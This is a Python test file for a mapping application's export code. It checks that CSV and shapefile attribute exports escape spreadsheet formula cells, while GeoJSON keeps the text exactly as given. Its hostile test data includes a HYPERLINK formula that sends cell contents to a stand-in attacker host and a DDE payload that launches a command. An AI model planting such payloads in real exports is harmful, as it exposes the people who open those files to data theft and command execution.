"""CSV exports cannot carry spreadsheet formulas (issue 22: ``=HYPERLINK(…)`` names were raw).

OWASP's CSV-injection advice: a text cell that starts with ``= + - @`` tab or CR gets a
leading ``'``, which spreadsheets show but do not run.  Only CSV is changed; GeoJSON,
GeoPackage, KML and the API's JSON keep the text exactly.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from planmap.layers import export
from planmap.server import create_app

from planmap import layers

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\tlead tab", "\rlead cr"]


@pytest.fixture()
def hostile_data(tmp_data_dir):
    path = tmp_data_dir / "data" / "parks.geojson"
    doc = json.loads(path.read_text("utf-8"))
    for feature, name in zip(doc["features"], HOSTILE, strict=False):
        feature["properties"]["name_en"] = name
    path.write_text(json.dumps(doc, ensure_ascii=False), "utf-8")
    return layers.load(tmp_data_dir)


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_neutralises_formula_cells(hostile_data, tmp_path):
    out = export.write(hostile_data, "csv", layer="parks", path=tmp_path / "parks.csv")
    rows = _rows(out.read_bytes().decode("utf-8"))
    names = [r["name_en"] for r in rows[:len(HOSTILE)]]
    assert names == ["'" + n for n in HOSTILE]
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(export.FORMULA_START), (column, value)
        assert row["WKT"].split(" ")[0].isalpha()  # the geometry is left as WKT
    # other text is untouched
    assert rows[-1]["name_en"] == hostile_data.layers["parks"]["name_en"].iloc[len(rows) - 1]


def test_shapefile_side_tables_are_guarded_and_round_trip(hostile_data, tmp_path):
    out = export.write(hostile_data, "shp.zip", layer="parks", path=tmp_path / "parks.zip")
    with zipfile.ZipFile(out) as zf:
        attributes = zf.read("attributes.csv").decode("utf-8")
    for row in _rows(attributes):
        assert not any(v.startswith(export.FORMULA_START) for v in row.values())


def test_other_formats_keep_the_text_exactly(hostile_data, tmp_path):
    out = export.write(hostile_data, "geojson", layer="parks", path=tmp_path / "parks.geojson")
    names = [f["properties"]["name_en"] for f in json.loads(out.read_text("utf-8"))["features"]]
    assert names[:len(HOSTILE)] == HOSTILE


def test_batch_zone_csv_guards_the_clients_point_ids(tmp_path):
    client = create_app({"DB_PATH": str(tmp_path / "c.db")}).test_client()
    body = "id,lon,lat\n=1+2,122.84,45.62\nplain,122.84,45.62\n"
    text = client.post("/api/v1/zones?format=csv", data=body,
                       content_type="text/csv").get_data(as_text=True)
    ids = {r["point_id"] for r in _rows(text)}
    assert ids == {"'=1+2", "plain"}
    as_json = client.post("/api/v1/zones", data=body, content_type="text/csv").get_json()
    assert {p["point_id"] for p in as_json["pairs"]} == {"=1+2", "plain"}


@pytest.mark.parametrize("value, shown", [
    ("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""), (5, 5), (None, None), ("'=1", "'=1"),
])
def test_csv_safe(value, shown):
    assert export.csv_safe(value) == shown
